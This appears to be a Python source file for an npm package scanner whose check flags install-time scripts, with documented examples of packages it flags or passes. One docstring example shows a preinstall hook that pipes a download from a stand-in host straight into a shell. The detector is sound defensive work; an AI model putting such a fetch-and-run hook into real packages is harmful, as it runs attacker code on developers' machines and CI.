from collections.abc import Iterator

from forecheck.analysis.install_scripts import Nature, alarming_part, nature
from forecheck.check import check
from forecheck.checks.wording import quoted
from forecheck.data.install_script_lists import NEEDED, NOT_NEEDED
from forecheck.evidence.install_scripts import InstallScripts
from forecheck.model import Confidence, Fix, Hit, Release, Severity

SKIP = Fix("install without running scripts", "npm install --ignore-scripts")


@check(severity=Severity.MEDIUM, confidence=Confidence.HIGH)
def install_script(release: Release, installed: InstallScripts) -> Iterator[Hit]:
    """Installing the package runs a program of its author's choice.

    ## Why it matters
    Most npm malware runs from `preinstall` or `postinstall`: before anybody imports the package, on the developer's
    machine and in CI, with all their rights. ua-parser-js, coa, rc, Nx and both Shai-Hulud worms started that way.

    ## What to do
    Install with `--ignore-scripts` and see whether anything is missing: most packages work without. If this one does
    not, read the script, then allow it for this package alone (`allowScripts` in package.json with npm 11.10 and
    later, `onlyBuiltDependencies` with pnpm, `trustedDependencies` with bun).

    ## What it cannot know
    What the script does: it sees the command, not the file that the command runs. Plain builds of native code, and
    scripts of a few dozen popular packages that are known to need theirs or to print a message, are only noted.

    ## Examples
    ### bad: a file of the package's own
    ```json title="packument.json"
    {"name": "leftpad-utils", "versions": {"1.0.3": {"scripts": {"postinstall": "node setup.js"}}}}
    ```
    ```text title="finding"
    postinstall runs "node setup.js"
    ```
    ### bad: something out of place in an install script
    ```json title="packument.json"
    {"name": "leftpad-utils",
     "versions": {"1.0.3": {"scripts": {"preinstall": "curl -s https://files.example.net/i | sh"}}}}
    ```
    ```text title="finding"
    preinstall runs "curl -s https://files.example.net/i | sh", with curl in it
    ```
    ### bad: a native addon, which is only noted
    ```json title="packument.json"
    {"name": "fast-hash", "versions": {"1.0.0": {"gypfile": true}}}
    ```
    ```text title="finding"
    install builds native code with "node-gyp rebuild"
    ```
    ### bad: a popular package that is known to need it, which is only noted
    ```json title="packument.json"
    {"name": "esbuild", "versions": {"0.25.0": {"scripts": {"postinstall": "node install.js"}}}}
    ```
    ```text title="finding"
    postinstall runs "node install.js", as esbuild is known to need
    ```
    ### bad: the registry says that there is a script, and not which, and serves no tarball
    ```json title="packument.json"
    {"name": "leftpad-utils", "versions": {"1.0.3": {"hasInstallScript": true, "dist": {}}}}
    ```
    ```text title="finding"
    the registry says that it runs a script on install, its manifest names none
    ```
    ### bad: only the tarball has it
    ```json title="packument.json"
    {"name": "leftpad-utils", "versions": {"1.0.3": {}}}
    ```
    ```json title="tarball.json"
    {"release": "leftpad-utils@1.0.3",
     "files": {"package.json": {"name": "leftpad-utils", "version": "1.0.3",
                                "scripts": {"postinstall": "node setup.js"}}}}
    ```
    ```text title="finding"
    postinstall runs "node setup.js"
    ```
    ### unknown: there is nothing to be had but the registry's word
    ```json title="packument.json"
    {"name": "leftpad-utils", "versions": {"1.0.3": {"dist": {}}}}
    ```
    ### good: scripts for the package's own development do not run
    ```json title="packument.json"
    {"name": "leftpad-utils",
     "versions": {"1.0.3": {"scripts": {"test": "node test.js", "prepare": "husky"}}}}
    ```
    ### good: it only prints
    ```json title="packument.json"
    {"name": "leftpad-utils",
     "versions": {"1.0.3": {"scripts": {"postinstall": "echo Thank you for using leftpad-utils"}}}}
    ```
    """
    if installed.claimed_by:
        known = release.name in NEEDED or release.name in NOT_NEEDED
        text = f"{installed.claimed_by} says that it runs a script on install, its manifest names none"
        yield Hit(text, severity=Severity.LOW if known else None, fix=None if known else SKIP)
    for hook, script in installed.scripts.items():
        hit = _judged(release.name, hook, script)
        if hit is not None:
            yield hit


def _judged(name: str, hook: str, script: str) -> Hit | None:
    match nature(script):
        case Nature.NOTHING:
            return None
        case Nature.ALARMING:
            part = alarming_part(script)
            text = f"{hook} runs {quoted(script)}, with {quoted(part) if ' ' in part else part} in it"
            return Hit(text, severity=Severity.HIGH, confidence=Confidence.MEDIUM, fix=SKIP, key=hook)
        case Nature.NATIVE_BUILD:
            return Hit(f"{hook} builds native code with {quoted(script)}", severity=Severity.LOW, key=hook)
    if name in NEEDED:
        text = f"{hook} runs {quoted(script)}, as {name} is known to need"
        return Hit(text, severity=Severity.LOW, key=hook)
    if name in NOT_NEEDED:
        text = f"{hook} runs {quoted(script)}; {name} is known to work without"
        return Hit(text, severity=Severity.LOW, fix=SKIP, key=hook)
    return Hit(f"{hook} runs {quoted(script)}", fix=SKIP, key=hook)
